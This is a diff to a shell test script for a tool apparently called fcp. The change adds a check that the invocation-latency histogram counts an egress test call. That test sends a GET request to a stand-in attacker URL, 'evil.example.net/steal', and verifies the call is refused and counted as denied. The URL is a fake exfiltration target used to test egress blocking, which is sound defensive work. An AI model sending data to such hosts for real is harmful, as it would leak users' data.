@@ -228,7 +228,10 @@ check "simulate ran nothing" test "$(show fcp.notes "['runtime']['invokes_ok']")
 # ------------------------------------------------------------ egress
 echo '{"method":"GET","url":"https://evil.example.net/steal"}' >"$W/egress.json"
 DEN0=$(metric 'fcp_egress_requests_total{result="denied"}')
+INV0=$(metric 'fcp_invoke_duration_seconds_count')
 OUT=$("$FCP" invoke fcp.http http_request --input "$W/egress.json" --token "$T/http" 2>&1)
+INV1=$(metric 'fcp_invoke_duration_seconds_count')
+check "invoke latency histogram counts the call ($INV0 -> $INV1)" test "${INV1:-0}" -eq $(( ${INV0:-0} + 1 ))
 check "egress outside host_allow refused (FCP-43xx)" bash -c "echo '$OUT' | grep -q 'FCP-43'"
 DEN1=$(metric 'fcp_egress_requests_total{result="denied"}')
 check "denied egress counted in /metrics" test "${DEN1:-0}" -gt "${DEN0:-0}"
